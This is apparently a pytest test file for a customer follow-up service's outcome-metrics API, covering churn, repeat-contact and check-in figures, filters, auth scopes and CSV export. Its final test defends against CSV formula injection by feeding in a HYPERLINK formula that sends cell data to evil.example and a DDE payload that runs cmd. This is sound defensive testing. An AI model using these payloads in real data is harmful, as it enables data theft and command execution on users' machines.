"""`GET /api/v1/metrics/outcomes` over a small history built through the real intake, dispatcher and replies."""
from __future__ import annotations

import csv
import io
from datetime import datetime, timezone

import pytest
from sqlalchemy import select

from followup.dispatch import dispatch_due
from followup.outcome_models import ChurnEvent, ContactEvent
from followup.policy import in_control_group
from tests.support.factories import interaction_event

URL = "/api/v1/metrics/outcomes"


def _id(prefix: str, held_out: bool) -> str:
    """An interaction id the 50 % control group holds out (or not): the hold-out is a hash of the id."""
    return next(f"{prefix}_{n}" for n in range(1000) if in_control_group(f"{prefix}_{n}", 0.5) == held_out)


def at(day: int, hour: int, minute: int = 0) -> datetime:
    return datetime(2026, 11, day, hour, minute, tzinfo=timezone.utc)


def iso(moment: datetime) -> str:
    return moment.isoformat().replace("+00:00", "Z")


def rough(interaction_id: str, case_id: str, customer: dict, started: datetime, ended: datetime, **changes) -> dict:
    return interaction_event(**{"event_id": f"evt_{interaction_id}", "occurred_at": iso(ended),
                                "interaction.id": interaction_id, "interaction.case_id": case_id,
                                "interaction.started_at": iso(started), "interaction.ended_at": iso(ended),
                                "customer.id": customer["id"], "customer.phone": customer["phone"],
                                "customer.email": customer["email"], **changes})


SAM = {"id": "cus_5", "phone": "+447700900123", "email": "sam@example.com"}
PRIYA = {"id": "cus_6", "phone": "+447700900456", "email": "priya@example.com"}
LEE = {"id": "cus_7", "phone": "+447700900789", "email": "lee@example.com"}


@pytest.fixture
def overrides(overrides):
    overrides["followup"] = {"control_group_fraction": 0.5}
    return overrides


@pytest.fixture
def history(post_event, client, manager_headers, rt, clock):
    """Four interactions, two check-ins (one reopened, one confirmed resolved), a contact and two churns."""

    def send_and_reply(checkin_id: str, text: str) -> dict:
        assert client.post(f"/api/v1/checkins/{checkin_id}/send-now", headers=manager_headers).status_code == 202
        assert dispatch_due(rt.db, rt.services["channels"], now=clock.now, worker="test").sent == 1
        clock.advance(hours=1)
        return client.post(f"/api/v1/checkins/{checkin_id}/simulate-reply", json={"text": text},
                           headers=manager_headers).get_json()

    ids = {"sam": _id("int_sam", False), "priya": _id("int_priya", False), "lee": _id("int_lee", True)}
    # 1. Sam, Nov 20: rough billing chat escalated from the bot → check-in → "still broken" → reopened
    clock.now = at(20, 10)
    body = post_event(rough(ids["sam"], "case_A", SAM, at(20, 9, 30), at(20, 9, 50))).get_json()
    assert body["triage"]["decision"] == "automated_checkin" and body["checkin"]
    assert send_and_reply(body["checkin"]["id"], "thanks, but it's still broken")["verdict"]["intent"] == "reopen"
    # 2. Priya, Nov 20: rough billing refund call → check-in → confirmed resolved at 13:10
    clock.now = at(20, 11)
    body = post_event(rough(ids["priya"], "case_C", PRIYA, at(20, 10, 40), at(20, 11), **{
        "interaction.channel": "voice", "interaction.escalated_from_bot": False,
        "interaction.category": "refund"})).get_json()
    clock.now = at(20, 12, 10)
    assert send_and_reply(body["checkin"]["id"], "Thanks, all sorted now!")["verdict"]["intent"] == "resolved"
    # 3. Lee, Nov 21: rough delivery call held out by the control group (team logistics)
    clock.now = at(21, 10)
    body = post_event(rough(ids["lee"], "case_D", LEE, at(21, 9, 30), at(21, 10), **{
        "interaction.channel": "voice", "interaction.escalated_from_bot": False,
        "interaction.journey_stage": "delivery", "interaction.category": "late_delivery",
        "agent.team": "logistics", "agent.id": "ag_9"})).get_json()
    assert body["checkin"] is None and "held out" in " ".join(body["schedule_reasons"])
    # 4. an agent closes Sam's reopened case
    clock.now = at(21, 10, 30)
    assert post_event({"event_id": "evt_close_A", "type": "case.updated", "occurred_at": iso(clock.now),
                       "case": {"id": "case_A", "status": "closed"}}).status_code == 202
    # 5. Sam again, Nov 22: a routine bot conversation about the same double charge (a repeat contact)
    clock.now = at(22, 10)
    body = post_event(rough("int_sam_bot", "case_B", SAM, at(22, 9, 50), at(22, 10), **{
        "interaction.channel": "bot", "interaction.escalated_from_bot": False, "interaction.resolution": "resolved",
        "interaction.customer_sentiment": 0.5, "interaction.signals": [], "interaction.repeat_contact_count": 0,
        "agent": None})).get_json()
    assert body["triage"]["decision"] == "none"
    # 6. Sam comes back by himself on Nov 23 (another repeat), Lee churns Nov 23, Sam churns Nov 24
    for day, event in ((23, {"type": "customer.contacted", "customer": {"id": "cus_5"}, "journey_stage": "billing",
                             "category": "double_charge"}),
                       (23, {"type": "customer.churned", "customer": {"id": "cus_7"}, "reason": "left"}),
                       (24, {"type": "customer.churned", "customer": {"id": "cus_5"}})):
        clock.now = at(day, 12)
        assert post_event({"event_id": f"evt_{event['type']}_{event['customer']['id']}",
                           "occurred_at": iso(clock.now), **event}).status_code == 202
    clock.now = at(25, 14, 10)
    return ids


def test_outcome_figures_match_the_hand_counted_history(history, client, read_headers):
    resp = client.get(f"{URL}?from=2026-11-20&to=2026-11-25", headers=read_headers)
    assert resp.status_code == 200, resp.get_json()
    report = resp.get_json()
    assert report["window"]["from"].startswith("2026-11-20T00:00") and report["window"]["to"].startswith("2026-11-26")
    # contacts — billing: Sam Nov 20, Priya Nov 20, Sam's bot chat Nov 22 (repeat), Sam's contact Nov 23 (repeat)
    assert report["repeat_contacts"]["by_journey_stage"] == [
        {"journey_stage": "billing", "contacts": 4, "repeats": 2, "rate": 0.5},
        {"journey_stage": "delivery", "contacts": 1, "repeats": 0, "rate": 0.0}]
    # Priya: 10:40 → confirmed 13:10 = 2.5 h; the other three closes are not 7 days old by Nov 25 (or reopened)
    assert report["time_to_resolution"] == {"episodes": 4, "resolved": 1, "confirmed_by_customer": 1,
                                            "stayed_closed": 0, "unresolved": 3, "median_hours": 2.5,
                                            "p90_hours": 2.5}
    # friction-heavy: Sam and Priya followed up (Sam churned), Lee held out (churned)
    groups = report["churn_after_friction"]["groups"]
    assert {k: groups["followed_up"][k] for k in ("n", "churned_30d", "rate_30d", "churned_90d")} == \
        {"n": 2, "churned_30d": 1, "rate_30d": 0.5, "churned_90d": 1}
    assert {k: groups["control"][k] for k in ("n", "churned_30d", "rate_30d")} == \
        {"n": 1, "churned_30d": 1, "rate_30d": 1.0}
    assert groups["followed_up"]["pending_90d"] == 1 and groups["control"]["pending_90d"] == 0  # Priya: open
    # bot: Sam's escalated chat and his bot-only chat
    assert report["bot_escalation"]["total"] == {"bot_started": 2, "escalated": 1, "rate": 0.5}
    funnel = {k: v for k, v in report["checkins"].items() if k != "by_channel"}
    assert funnel == {"sent": 2, "replied": 2, "reply_rate": 1.0, "resolved": 1, "resolved_rate": 0.5,
                      "reopen": 1, "reopen_rate": 0.5, "ack": 0, "opt_out": 0}
    # the reopened case's item was queued in the same transaction as the reply (the test clock stands still)
    assert report["reopen_latency"] == {"n": 1, "median_seconds": 0.0, "p90_seconds": 0.0}
    assert set(report["definitions"]) >= {"repeat_contacts", "time_to_resolution", "churn_after_friction",
                                          "bot_escalation", "checkins", "reopen_latency", "breaks"}
    assert "per_agent" in report["breaks"] and "totals" in report["breaks"]


def test_filters_by_team_and_journey_stage(history, client, read_headers):
    billing = client.get(f"{URL}?from=2026-11-20&to=2026-11-25&team=billing-emea", headers=read_headers).get_json()
    assert billing["churn_after_friction"]["groups"]["control"]["n"] == 0
    assert billing["churn_after_friction"]["groups"]["followed_up"]["n"] == 2
    delivery = client.get(f"{URL}?from=2026-11-20&to=2026-11-25&journey_stage=delivery",
                          headers=read_headers).get_json()
    assert delivery["repeat_contacts"]["total"] == {"contacts": 1, "repeats": 0, "rate": 0.0}
    assert delivery["checkins"]["sent"] == 0


def test_csv_export(history, client, read_headers):
    resp = client.get(f"{URL}?from=2026-11-20&to=2026-11-25", headers={**read_headers, "Accept": "text/csv"})
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    assert "attachment" in resp.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True))))
    assert rows[0] == ["metric", "group", "measure", "value"]
    assert ["repeat_contacts", "billing", "rate", "0.5"] in rows
    assert ["churn_after_friction", "control", "churned_30d", "1"] in rows
    assert ["checkins", "all", "reply_rate", "1.0"] in rows


def test_default_window_is_the_last_30_days(client, read_headers, clock):
    report = client.get(URL, headers=read_headers).get_json()
    assert report["window"]["to"].startswith(iso(clock.now)[:16])
    assert report["window"]["from"].startswith("2026-10-26T14:10")


@pytest.mark.parametrize("query, field", [
    ("from=yesterday", "from"), ("to=2026-13-01", "to"), ("from=2026-11-25&to=2026-11-20", "from"),
    ("from=2026-11-25T10:00:00Z&to=2026-11-25T10:00:00Z", "from"), ("team=" + "x" * 200, "team"),
    ("journey_stage=", "journey_stage"), ("form=2026-11-01", "form"),
])
def test_bad_query_parameters_are_422_naming_the_field(client, read_headers, query, field):
    resp = client.get(f"{URL}?{query}", headers=read_headers)
    assert resp.status_code == 422, resp.get_data(as_text=True)
    assert resp.mimetype == "application/problem+json"
    assert field in [e["field"] for e in resp.get_json()["errors"]]


def test_from_after_the_default_to_is_422(client, read_headers):
    resp = client.get(f"{URL}?from=2027-01-01", headers=read_headers)
    assert resp.status_code == 422 and resp.get_json()["errors"][0]["field"] == "from"


def test_needs_read_or_manager_scope(app, client):
    from tests.support.factories import make_key

    assert client.get(URL).status_code == 401
    crm = {"Authorization": f"Bearer {make_key(app, 'crm')}"}
    assert client.get(URL, headers=crm).status_code == 403
    manager = {"Authorization": f"Bearer {make_key(app, 'manager')}"}
    assert client.get(URL, headers=manager).status_code == 200


def test_outcomes_endpoint_is_documented_with_definitions(client):
    spec = client.get("/openapi.json").get_json()
    op = spec["paths"]["/api/v1/metrics/outcomes"]["get"]
    assert "time_to_resolution" in op["description"] and "text/csv" in op["responses"]["200"]["content"]
    assert {p["name"] for p in op["parameters"]} >= {"from", "to", "team", "journey_stage"}


def test_customer_churned_is_stored_and_idempotent(post_event, rt):
    event = {"event_id": "evt_churn_1", "type": "customer.churned", "occurred_at": "2026-11-25T14:00:00Z",
             "customer": {"id": "cus_gone"}, "reason": "moved to a competitor"}
    assert post_event(event).status_code == 202
    assert post_event(event).status_code == 200
    with rt.db.session() as session:
        rows = [(r.customer_id, r.reason, r.occurred_at.hour) for r in session.scalars(select(ChurnEvent))]
    assert rows == [("cus_gone", "moved to a competitor", 14)]


def test_customer_churned_validates_its_fields(post_event):
    resp = post_event({"event_id": "evt_churn_bad", "type": "customer.churned", "occurred_at": "2026-11-25T14:00Z",
                       "customer": {}, "reason": 5})
    assert resp.status_code == 422
    assert {e["field"] for e in resp.get_json()["errors"]} >= {"customer.id", "reason"}


def test_customer_contacted_is_recorded_with_the_case_stage_when_not_given(post_event, rt):
    post_event(interaction_event())
    post_event({"event_id": "evt_contact_1", "type": "customer.contacted", "occurred_at": "2026-11-25T15:00:00Z",
                "customer": {"id": "cus_5"}, "case": {"id": "case_77"}})
    with rt.db.session() as session:
        row = session.scalars(select(ContactEvent)).one()
        assert (row.customer_id, row.journey_stage, row.category, row.team) == \
            ("cus_5", "billing", "double_charge", "billing-emea")


def test_csv_export_neutralises_formulas_from_crm_events(post_event, client, read_headers):
    """Issue 11: a journey stage or an agent id sent by the CRM reaches the CSV; it must open as text."""
    stage, agent = '=HYPERLINK("https://evil.example/?x="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0"
    event = interaction_event(**{"interaction.journey_stage": stage, "agent.id": agent,
                                 "interaction.customer_sentiment": -0.4})
    assert post_event(event).status_code == 202
    resp = client.get(f"{URL}?from=2026-11-20&to=2026-11-26", headers={**read_headers, "Accept": "text/csv"})
    rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True))))
    groups = {row[1] for row in rows}
    assert "'" + stage in groups and "'" + agent in groups and stage not in groups and agent not in groups
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
